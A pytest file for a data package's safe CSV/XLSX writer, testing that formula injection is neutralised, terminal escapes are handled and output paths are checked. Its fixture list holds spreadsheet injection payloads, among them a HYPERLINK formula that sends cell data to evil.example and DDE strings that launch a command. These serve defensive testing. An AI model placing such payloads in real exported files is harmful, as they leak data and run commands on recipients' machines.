"""The one CSV/XLSX writer: formula cells neutralised (OWASP), numbers kept, paths checked."""

from __future__ import annotations

import csv
import os

import numpy as np
import openpyxl
import pandas as pd
import pytest

from socdata.errors import OutputPathError
from socdata.safe_output import (
    check_output_file,
    escape_terminal,
    neutralise_formulas,
    neutralise_text,
    write_csv,
    write_xlsx,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_leading_text_gets_an_apostrophe(value):
    assert neutralise_text(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-2e-3", "-0.25", "12%", "Cardiff", "", "a=b"])
def test_plain_numbers_and_ordinary_text_unchanged(value):
    assert neutralise_text(value) == value


def test_csv_round_trip_numbers_survive_and_formulas_are_text(tmp_path):
    frame = pd.DataFrame(
        {
            "label": [*ATTACKS, "-5"],
            "value": [-1.5, -2.0, 0.0, 3.0, -4.25, 5.0, -6.0],
            "count": pd.array([-1, 2, -3, 4, 5, 6, -7], dtype="Int64"),
            "=evil header": ["x"] * 7,
        }
    )
    before = frame.copy()
    path = write_csv(frame, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["label", "value", "count", "'=evil header"]
    # independent check of the OWASP rule on the bytes written: no cell of a text column
    # starts with a formula character unless it is a plain number
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "@", "\t", "\r")) and (
            not row[0].startswith("-") or row[0] == "-5"
        )
    back = pd.read_csv(path)
    assert back["value"].tolist() == [-1.5, -2.0, 0.0, 3.0, -4.25, 5.0, -6.0]
    assert back["count"].tolist() == [-1, 2, -3, 4, 5, 6, -7]


def test_neutralise_keeps_numeric_dtypes():
    frame = pd.DataFrame(
        {"a": [-1.0, np.nan], "b": ["=1", None], "d": pd.to_datetime(["2020-01-01", None])}
    )
    out = neutralise_formulas(frame)
    assert out.dtypes.tolist() == frame.dtypes.tolist()
    assert out["b"].tolist()[0] == "'=1" and pd.isna(out["b"].tolist()[1])


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    path = write_xlsx(pd.DataFrame({"x": ["=1+1", "ok"], "n": [-1, 2]}), tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].value == "'=1+1" and ws["A2"].data_type == "s"
    assert ws["B2"].value == -1


def test_terminal_escapes():
    assert escape_terminal("a\x1b[2Jb\rc\x07") == "a\\x1b[2Jb\\x0dc\\x07"
    assert escape_terminal("line1\nline2\tx") == "line1\nline2\tx"
    assert escape_terminal("abc\u202edcba") == "abc\\u202edcba"
    assert escape_terminal("Ynys Môn") == "Ynys Môn"


def test_output_path_checks(tmp_path):
    data = tmp_path / "extract.csv"
    data.write_text("a\n1\n")
    with pytest.raises(OutputPathError, match="is an input of this run"):
        check_output_file(data, inputs=[data], what="--report")
    with pytest.raises(OutputPathError, match="is a folder"):
        check_output_file(tmp_path, what="--report")
    with pytest.raises(OutputPathError, match="does not exist"):
        check_output_file(tmp_path / "nope" / "r.csv", what="--report")
    other = tmp_path / "mine.csv"
    other.write_text("precious")
    with pytest.raises(OutputPathError, match="was not written by socdata"):
        check_output_file(other, what="--report")
    assert other.read_text() == "precious"
    folder = tmp_path / "data"
    folder.mkdir()
    with pytest.raises(OutputPathError, match="inside the data folder"):
        check_output_file(folder / "r.csv", inputs=[folder])


def test_read_only_folder_is_a_plain_error(tmp_path, monkeypatch):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    if os.geteuid() == 0:  # root ignores folder permissions (as in CI): the OS says no instead
        import tempfile

        def denied(*args, **kwargs):
            raise PermissionError(13, "Permission denied", str(ro))

        monkeypatch.setattr(tempfile, "mkstemp", denied)
    try:
        with pytest.raises(OutputPathError, match="cannot write"):
            write_csv(pd.DataFrame({"a": [1]}), ro / "x.csv")
    finally:
        ro.chmod(0o700)


def test_failed_write_keeps_the_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "t.csv"
    path.write_text("old")

    def boom(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", boom)
    with pytest.raises(OutputPathError, match="No space left"):
        write_csv(pd.DataFrame({"a": [1]}), path)
    assert path.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # no temporary file left
